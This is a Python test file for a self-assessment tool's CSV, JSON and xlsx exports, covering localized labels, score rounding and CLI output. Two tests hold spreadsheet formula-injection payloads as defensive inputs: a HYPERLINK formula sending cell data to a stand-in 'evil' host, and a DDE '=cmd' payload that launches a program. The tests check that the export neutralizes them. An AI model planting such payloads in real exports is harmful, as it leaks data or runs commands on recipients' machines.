"""Exports for spreadsheets: labels beside codes, whole-point scores, question texts, the xlsx workbook."""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile

import pytest
from openpyxl import load_workbook

from selfassess import exports, store
from selfassess.bank.model import Option, Question, Text
from selfassess.bank.pages import bank_pages
from selfassess.bank.synthetic import random_answers
from tests.conftest import Respondent, csrf_token, form_values
from tests.test_facilitate import login, world  # noqa: F401  (a fixture)

# The answers of the provider "Labels Ltd", chosen so that the expected labels can be written down.
CHOSEN = {
    "country": "DK",
    "size": "250_999",
    "sectors": ["business", "creative"],
    "strategy_mapping": "yes",
    "strategy_context": 4,
}
EXPECTED = {
    "en": {
        "country_label": "Denmark",
        "size_label": "250 to 999",
        "sectors_label": "Business, retail and administration; Media, design and crafts",
        "yes": "Yes",
        "question": "In which country is your organisation based?",
    },
    "da": {
        "country_label": "Danmark",
        "size_label": "250 til 999",
        "sectors_label": "Kontor, handel og forretningsservice; Medier, design og håndværk",
        "yes": "Ja",
        "question": "I hvilket land ligger jeres institution?",
    },
}
LEVELS = {"en": {"Starting", "Developing", "Established", "Leading"}, "da": {"Begyndende", "Under udvikling", "Etableret", "Førende"}}  # fmt: skip


@pytest.fixture
def labelled(app, world):  # noqa: F811
    """The cohort of *world* with one more provider, "Labels Ltd", whose profile answers are CHOSEN."""
    cohort = world["cohort"]
    client = app.test_client()
    page = client.get(f"/join/{cohort.code}").get_data(as_text=True)
    started = client.post(f"/join/{cohort.code}", data={"csrf_token": csrf_token(page), "lang": "en"})
    respondent = Respondent.__new__(Respondent)
    respondent.client, respondent.token = client, started.headers["Location"].split("/")[2]
    bank = app.extensions["selfassess_catalog"].get("go-international")
    answers = {**random_answers(bank, random.Random(7), 0.5), **CHOSEN}
    for number, questions in ((p.number, p.questions) for p in bank_pages(bank)):
        data = form_values({q.id: answers[q.id] for q in questions if q.id in answers})
        if number == 1:
            data["_organisation"] = "Labels Ltd"
        assert respondent.post_page(number, data).status_code == 302
    assert respondent.submit().status_code == 302
    return {**world, "bank": bank, "client": facilitator(app)}


def facilitator(app):
    client = app.test_client()
    login(client, "owner@agency.eu")
    return client


def get_csv(client, url: str, lang: str = "en") -> list[dict[str, str]]:
    body = client.get(url, headers={"Accept-Language": lang}).get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("lang", ["en", "da"])
def test_results_have_labels_beside_the_codes(labelled, lang):
    code = labelled["cohort"].code
    rows = get_csv(labelled["client"], f"/facilitator/cohorts/{code}/export.csv", lang)
    ours = next(r for r in rows if r["organisation"] == "Labels Ltd")
    assert (ours["country"], ours["size"], ours["sectors"]) == ("DK", "250_999", "business|creative")
    for column in ("country_label", "size_label", "sectors_label"):
        assert ours[column] == EXPECTED[lang][column]
    bank = labelled["bank"]
    for row in rows:
        for key in [d.id for d in bank.dimensions] + ["overall"]:
            level = bank.rubric.level(row[f"{key}_level"])
            assert row[f"{key}_level_label"] == level.label.get(lang)
            assert row[f"{key}_level_label"] in LEVELS[lang]
    # A text or number question has no label column; a choice question has one right after its codes.
    header = list(rows[0])
    assert header[header.index("country") + 1] == "country_label"


def test_the_interface_language_chooses_the_labels_and_falls_back_to_the_banks_first(labelled):
    client, code = labelled["client"], labelled["cohort"].code
    by_query = get_csv(client, f"/facilitator/cohorts/{code}/export.csv?lang=da")
    assert "Danmark" in {r["country_label"] for r in by_query}
    # Swedish is no interface language: the interface is English, and so are the labels.
    swedish = get_csv(client, f"/facilitator/cohorts/{code}/export.csv", "sv")
    assert "Denmark" in {r["country_label"] for r in swedish}
    data = client.get(f"/facilitator/cohorts/{code}/export.json", headers={"Accept-Language": "da"}).get_json()
    assert data["language"] == "da"
    assert {r["country_label"] for r in data["responses"]} >= {"Danmark"}


def test_export_language_is_the_wanted_one_if_the_bank_has_it(labelled):
    bank = labelled["bank"]
    assert [exports.export_language(bank, lang) for lang in ("da", "nb", "sv", None)] == ["da", "nb", "en", "en"]


def test_scores_are_whole_points_as_on_the_dashboard_and_full_in_json(labelled):
    client, code = labelled["client"], labelled["cohort"].code
    rows = get_csv(client, f"/facilitator/cohorts/{code}/export.csv")
    full = client.get(f"/facilitator/cohorts/{code}/export.json").get_json()["responses"]
    dashboard = client.get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    db = store.connect(client.application.config["SELFASSESS_DATABASE"])
    for row, precise in zip(rows, full, strict=True):
        assert int(row["response"]) == precise["response"]
        stored = store.load_scores(db, precise["response"])
        for key, dim in [(d.id, d.id) for d in labelled["bank"].dimensions] + [("overall", "")]:
            assert precise[f"{key}_score"] == stored[dim]["score"]  # machines get every digit
            assert row[f"{key}_score"] == f"{stored[dim]['score']:.0f}"  # people get what the screen shows
            assert f"({row[f'{key}_score']})</td>" in dashboard
    assert any(not p["overall_score"].is_integer() for p in full)  # else this test proves nothing


@pytest.mark.parametrize(("score", "shown"), [(72.89473684210526, 73), (72.5, 72), (73.5, 74), (0.4, 0), (100.0, 100)])
def test_whole_points_round_as_the_screen_does(score, shown):
    assert exports.whole_points(score) == shown == int(f"{score:.0f}")
    assert exports.whole_points(None) is None


@pytest.mark.parametrize("lang", ["en", "da"])
def test_answers_have_question_text_and_answer_labels(labelled, lang):
    code, bank = labelled["cohort"].code, labelled["bank"]
    rows = get_csv(labelled["client"], f"/facilitator/cohorts/{code}/answers.csv", lang)
    assert list(rows[0]) == ["response", "question", "question_text", "answer", "answer_label"]
    for row in rows:
        assert row["question_text"] == bank.question(row["question"]).text.get(lang)
    db = store.connect(labelled["client"].application.config["SELFASSESS_DATABASE"])
    ours = next(
        m.response_id for m in store.cohort_members(db, labelled["cohort"], []) if m.organisation == "Labels Ltd"
    )
    mine = {r["question"]: r for r in rows if r["response"] == str(ours)}
    assert mine["country"]["question_text"] == EXPECTED[lang]["question"]
    assert (mine["country"]["answer"], mine["country"]["answer_label"]) == ("DK", EXPECTED[lang]["country_label"])
    assert json.loads(mine["sectors"]["answer"]) == ["business", "creative"]
    assert mine["sectors"]["answer_label"] == EXPECTED[lang]["sectors_label"]
    assert mine["strategy_mapping"]["answer_label"] == EXPECTED[lang]["yes"]
    context = bank.question("strategy_context")
    assert mine["strategy_context"]["answer_label"] == context.option(4).label.get(lang)
    assert mine["strategy_aim"]["answer_label"] == ""  # a text answer is its own label


def test_not_applicable_and_unknown_answers_get_labels_or_none():
    question = Question(
        id="q", type="choice", text=Text({"en": "Q?"}), allow_na=True,
        options=(Option("a", Text({"en": "Alpha", "da": "Alfa"})),),
    )  # fmt: skip
    labels = exports.option_labels(question, "da")
    assert labels == {"a": "Alfa", "na": "Ikke relevant"}
    assert [exports.answer_label(labels, v) for v in ("a", "na", "gone", None, ["a", "gone", "na"])] == [
        "Alfa", "Ikke relevant", "", "", "Alfa; Ikke relevant",
    ]  # fmt: skip


# --- the xlsx workbook ------------------------------------------------------------------------


def sheet_rows(sheet) -> list[dict[str, object]]:
    """A sheet's rows as dicts by its header row, "" for an empty cell (as in the CSV)."""
    values = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def as_csv_text(row: dict[str, object]) -> dict[str, str]:
    return {k: str(v) for k, v in row.items()}


@pytest.mark.parametrize("lang", ["en", "da"])
def test_xlsx_has_results_and_answers_as_the_csv_has_them(labelled, lang):
    client, code = labelled["client"], labelled["cohort"].code
    response = client.get(f"/facilitator/cohorts/{code}/export.xlsx", headers={"Accept-Language": lang})
    assert response.status_code == 200
    assert response.mimetype == exports.XLSX_TYPE
    assert response.headers["Content-Disposition"] == f'attachment; filename="{code}-results.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    book = load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Results", "Answers"]
    for title, url in (("Results", "export.csv"), ("Answers", "answers.csv")):
        sheet = book[title]
        assert sheet.freeze_panes == "A2"
        assert all(8 <= sheet.column_dimensions[c.column_letter].width <= 60 for c in sheet[1])
        assert [as_csv_text(r) for r in sheet_rows(sheet)] == get_csv(
            client, f"/facilitator/cohorts/{code}/{url}", lang
        )
    results = sheet_rows(book["Results"])
    ours = next(r for r in results if r["organisation"] == "Labels Ltd")
    assert ours["country_label"] == EXPECTED[lang]["country_label"]
    # Numbers are numbers: ids and whole-point scores sort and sum in a spreadsheet.
    assert all(isinstance(r["response"], int) and isinstance(r["overall_score"], int) for r in results)
    numbers = [r["answer"] for r in sheet_rows(book["Answers"]) if r["question"] == "strategy_context"]
    assert numbers and all(isinstance(n, int) for n in numbers)


TRICKY = ['=HYPERLINK("http://evil/"&A1,"x")', "+SUM(1+1)", "-2+3", "@SUM(1)", "  =1+1", "\t=1", "#N/A", "=1"]


def test_xlsx_stores_formula_looking_text_as_text():
    rows = [{"text": value, "number": 3, "list": ["=a", "b"], "none": None} for value in TRICKY]
    rows.append({"text": "bell\x07 and nul\x00", "number": 2.5, "list": [], "none": None})
    data = exports.to_xlsx({"Results": rows})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data))["Results"]
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells)
    assert [row[0].value for row in cells[: len(TRICKY)]] == [exports.cell(v) for v in TRICKY]  # the CSV's rule
    assert cells[-1][0].value == "bell\ufffd and nul\ufffd"  # characters XML cannot hold, shown as replaced
    assert [row[1].value for row in cells[-2:]] == [3, 2.5]
    assert cells[0][2].value == '["=a", "b"]' and cells[0][2].data_type == "s"


def test_xlsx_from_a_provider_named_like_a_formula(app, world):  # noqa: F811
    from tests.test_hardening import submitted_in_cohort

    submitted_in_cohort(app, world["cohort"], "=cmd|' /C calc'!A0", "@SUM(1)")
    client = facilitator(app)
    data = client.get(f"/facilitator/cohorts/{world['cohort'].code}/export.xlsx").get_data()
    book = load_workbook(io.BytesIO(data))
    names = [c for c in book["Results"]["B"] if c.value and "calc" in c.value]
    assert [(c.value, c.data_type) for c in names] == [("'=cmd|' /C calc'!A0", "s")]
    aims = [c for row in book["Answers"].iter_rows() for c in row if c.value == "'@SUM(1)"]
    assert aims and all(c.data_type == "s" for c in aims)


def test_other_formats_are_404_with_a_message(labelled):
    client, code = labelled["client"], labelled["cohort"].code
    wrong = client.get(f"/facilitator/cohorts/{code}/export.pdf")
    assert wrong.status_code == 404 and "Exports come as .csv, .json or .xlsx." in wrong.get_data(as_text=True)
    answers = client.get(f"/facilitator/cohorts/{code}/answers.xlsx")
    assert answers.status_code == 404 and "beside the results in the .xlsx export" in answers.get_data(as_text=True)


def test_dashboard_links_to_the_workbook(labelled):
    code = labelled["cohort"].code
    html = labelled["client"].get(f"/facilitator/cohorts/{code}").get_data(as_text=True)
    assert f'href="/facilitator/cohorts/{code}/export.xlsx"' in html
    assert "Results and answers (Excel, .xlsx)" in html


# --- the command line -------------------------------------------------------------------------


def test_cli_xlsx_equals_the_web_workbook(labelled, run_cli, tmp_path):
    code, path = labelled["cohort"].code, labelled["client"].application.config["SELFASSESS_DATABASE"]
    target = tmp_path / "cohort.xlsx"
    written = run_cli("export", "--cohort", code, "--format", "xlsx", "--lang", "da", "-o", str(target), "--db", path)
    assert written.exit_code == 0, written.output
    web = labelled["client"].get(f"/facilitator/cohorts/{code}/export.xlsx?lang=da").get_data()
    cli_book, web_book = load_workbook(target), load_workbook(io.BytesIO(web))
    assert cli_book.sheetnames == web_book.sheetnames == ["Results", "Answers"]
    for title in cli_book.sheetnames:
        assert list(cli_book[title].values) == list(web_book[title].values)
    assert "Danmark" in {r["country_label"] for r in sheet_rows(cli_book["Results"])}
    piped = run_cli("export", "--cohort", code, "--format", "xlsx", "-o", "-", "--db", path)
    assert piped.exit_code == 0 and piped.stdout_bytes.startswith(b"PK")
    assert load_workbook(io.BytesIO(piped.stdout_bytes))["Results"]["A1"].value == "response"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "xlsx"], "write it to a file with -o FILE.xlsx (or to standard output with -o -)"),
        (["--format", "xlsx", "--answers", "-o", "-"], "leave out --answers"),
        (["--lang", "sv"], "the questionnaire 'go-international' has no language 'sv' (it has: en, da, nb)"),
    ],
)
def test_cli_refusals_say_what_to_do(labelled, run_cli, args, message):
    path = labelled["client"].application.config["SELFASSESS_DATABASE"]
    result = run_cli("export", "--cohort", labelled["cohort"].code, *args, "--db", path)
    assert result.exit_code == 1 and message in result.output
    assert result.stdout_bytes == b""


@pytest.mark.parametrize("lang", ["en", "da"])
def test_cli_csv_and_json_equal_the_web_in_each_language(labelled, run_cli, lang):
    code, path = labelled["cohort"].code, labelled["client"].application.config["SELFASSESS_DATABASE"]
    client = labelled["client"]
    for answers, name in (([], "export"), (["--answers"], "answers")):
        cli_csv = run_cli("export", "--cohort", code, *answers, "--lang", lang, "--db", path)
        web_csv = client.get(f"/facilitator/cohorts/{code}/{name}.csv", headers={"Accept-Language": lang})
        assert cli_csv.stdout_bytes == web_csv.get_data()
        cli_json = run_cli("export", "--cohort", code, *answers, "--format", "json", "--lang", lang, "--db", path)
        web_json = client.get(f"/facilitator/cohorts/{code}/{name}.json", headers={"Accept-Language": lang})
        assert json.loads(cli_json.stdout) == web_json.get_json()
